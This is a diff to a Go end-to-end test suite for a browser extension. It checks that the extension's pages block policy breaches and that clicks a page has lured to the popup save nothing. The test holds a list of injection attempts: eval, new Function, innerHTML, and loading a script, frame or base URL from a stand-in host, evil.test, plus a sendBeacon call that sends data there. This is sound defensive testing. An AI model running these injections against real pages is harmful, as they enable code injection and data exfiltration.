@@ -3,6 +3,7 @@
 package e2e_test
 
 import (
+	"fmt"
 	"io/fs"
 	"os"
 	"testing"
@@ -95,25 +96,91 @@ func TestAContentScriptReachesNothing(t *testing.T) {
 	assert.Empty(t, seen.Databases)
 }
 
-// The browser itself refuses to make markup of a text, should the code ever try.
+// The browser itself refuses to make markup of a text, and whatever else the policy
+// forbids, should the code ever try: each try is one breach.
 func TestTheBrowserRefusesMarkup(t *testing.T) {
+	tries := map[string]string{
+		"markup of a text":     `() => { document.createElement("p").innerHTML = "<b>bold</b>"; }`,
+		"a program of a text":  `() => { new Function("globalThis.ran = 1")(); }`,
+		"a text evaluated":     `() => { (0, eval)("globalThis.ran = 1"); }`,
+		"a policy for markup":  `() => { trustedTypes.createPolicy("any", { createHTML: (text) => text }); }`,
+		"a script of the page": `() => { document.head.append(Object.assign(document.createElement("script"), { textContent: "globalThis.ran = 1" })); }`,
+		"another's script":     `() => { document.head.append(Object.assign(document.createElement("script"), { src: "https://evil.test/x.js" })); }`,
+		"another's picture":    `() => { document.body.append(Object.assign(document.createElement("img"), { src: "https://evil.test/x.png" })); }`,
+		"another's style":      `() => { document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: "https://evil.test/x.css" })); }`,
+		"a style in the page":  `() => { document.head.append(Object.assign(document.createElement("style"), { textContent: "p { color: red }" })); }`,
+		"a frame":              `() => { document.body.append(Object.assign(document.createElement("iframe"), { src: "https://evil.test/" })); }`,
+		"another base":         `() => { document.head.append(Object.assign(document.createElement("base"), { href: "https://evil.test/" })); }`,
+		"an unsafe address":    `() => { navigator.sendBeacon("http://evil.test/", "x"); }`,
+	}
 	w := newWorld(t)
 	for name, open := range map[string]func() *page{
-		"popup":   func() *page { return w.popup(acme) },
-		"options": func() *page { return w.page("options.html") },
+		"popup":    func() *page { return w.popup(acme) },
+		"options":  func() *page { return w.page("options.html") },
+		"pipeline": func() *page { return w.page("pipeline.html") },
 	} {
 		p := open()
-		p.expects = "TrustedHTML"
-		var came string
-		p.read(`(() => {
-			try {
-				document.createElement("p").innerHTML = "<b>bold</b>";
-				return "markup";
-			} catch (error) {
-				return error.name;
+		p.expects = "blocked"
+		p.until(`document.readyState === "complete"`)
+		var breaches map[string]int
+		p.read(`(async () => {
+			await new Promise((done) => setTimeout(done)); // the driver's own calls may evaluate texts
+			const tries = {`+joined(tries)+`}, breaches = {};
+			for (const [name, attempt] of Object.entries(tries)) {
+				breaches[name] = 0;
+				const count = () => breaches[name]++;
+				addEventListener("securitypolicyviolation", count);
+				try { await attempt(); } catch {}
+				for (let i = 0; !breaches[name] && i < 200; i++) await new Promise((done) => setTimeout(done, 10));
+				removeEventListener("securitypolicyviolation", count);
 			}
-		})()`, &came)
-		assert.Equal(t, "TypeError", came, name)
+			return breaches;
+		})()`, &breaches)
+		for try := range tries {
+			assert.Positive(t, breaches[try], "%s: %s", name, try)
+		}
+		p.until(`!("ran" in globalThis)`)
 		p.close()
 	}
+}
+
+// joined are the members of an object.
+func joined(functions map[string]string) (text string) {
+	for name, function := range functions {
+		text += quote(name) + ": " + function + ", "
+	}
+	return text
+}
+
+// A click that a page has lured to where the popup opens saves nothing and discards
+// nothing. The keyboard is not kept waiting.
+func TestAClickInTheFirstMomentChangesNothing(t *testing.T) {
+	w := newWorld(t)
+	popup := w.popup(acme)
+	popup.known("Acme Corporation")
+	popup.fill("#name", "Lured")
+	popup.until(`!document.querySelector("#discard").hidden`)
+	// click has an element clicked so long after the page began; clicks 0 is the keyboard's.
+	click := func(selector string, after, clicks int) {
+		popup.eval(fmt.Sprintf(`(() => {
+			const click = new MouseEvent("click", { bubbles: true, cancelable: true, detail: %d });
+			Object.defineProperty(click, "timeStamp", { value: %d });
+			document.querySelector(%s).dispatchEvent(click);
+		})()`, clicks, after, quote(selector)))
+	}
+	for _, after := range []int{0, 100, 299} {
+		click("#submit", after, 1)
+		click("#discard", after, 1)
+	}
+	click("#submit", 250, 2)
+	popup.drain()
+	assert.Equal(t, "Lured", popup.value("#name"))
+	assert.Empty(t, w.writes("opportunity.create"))
+
+	click("#submit", 100, 0)
+	popup.see(done, "Created “Lured”")
+	popup.fill("#name", "On purpose")
+	click("#submit", 301, 1)
+	popup.see(done, "Created “On purpose”")
+	assert.Len(t, w.writes("opportunity.create"), 2)
 }
